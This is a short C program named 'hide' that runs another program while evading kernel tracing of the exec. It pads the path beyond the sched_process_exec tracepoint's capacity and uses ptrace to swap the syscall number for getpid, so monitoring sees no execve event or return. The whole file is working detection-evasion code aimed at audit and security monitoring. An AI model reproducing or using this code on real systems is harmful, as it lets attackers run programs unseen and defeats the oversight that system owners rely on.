/*
 * hide - execute a program so that no event of the kernel shows the exec
 *
 * usage: hide PROGRAM [ARG ...]
 *
 * The path is made longer than sched_process_exec can hold; and a tracer gives
 * the call that returns another number, so that no event of execve's return
 * comes. Prints the PID and ends with the program's status.
 */

#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>

#include <elf.h>
#include <err.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define LENGTH 4089

extern char **environ;

/* DIR/././.../NAME */
static const char *
long_path(const char *path)
{
	static char s[LENGTH + 1];
	const char *name = strrchr(path, '/');
	size_t dir, rest;

	if (!name)
		errx(2, "%s: a path with a slash is expected", path);
	dir = (size_t)(name - path);
	rest = strlen(name);
	memcpy(s, path, dir);
	memset(s + dir, '/', LENGTH - dir);
	for (size_t i = dir + 1; i + rest < LENGTH - 1; i += 2)
		s[i] = '.';
	memcpy(s + LENGTH - rest, name, rest + 1);
	return s;
}

static void
other_number(pid_t pid)
{
#ifdef __x86_64__
	if (ptrace(PTRACE_POKEUSER, pid,
		offsetof(struct user_regs_struct, orig_rax), SYS_getpid) == -1)
		err(1, "ptrace");
#elif defined(__aarch64__)
	int number = SYS_getpid;
	struct iovec v = { &number, sizeof(number) };

	if (ptrace(PTRACE_SETREGSET, pid, NT_ARM_SYSTEM_CALL, &v) == -1)
		err(1, "ptrace");
#endif
}

int
main(int argc, char *argv[])
{
	const char *path;
	int status;
	pid_t pid;

	if (argc < 2)
		errx(2, "usage: hide PROGRAM [ARG ...]");
	path = long_path(argv[1]);
	pid = fork();
	if (pid == 0) {
		ptrace(PTRACE_TRACEME, 0, NULL, NULL);
		raise(SIGSTOP);
		execve(path, argv + 1, environ);
		err(1, "execve");
	}
	waitpid(pid, &status, 0);
	ptrace(PTRACE_SETOPTIONS, pid, NULL, PTRACE_O_TRACEEXEC);
	ptrace(PTRACE_CONT, pid, NULL, NULL);
	waitpid(pid, &status, 0);
	if (!WIFSTOPPED(status) ||
	    status >> 8 != (SIGTRAP | PTRACE_EVENT_EXEC << 8))
		errx(1, "no exec");
	other_number(pid);
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
	printf("%d\n", (int)pid);
	fflush(stdout);
	waitpid(pid, &status, 0);
	return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
}
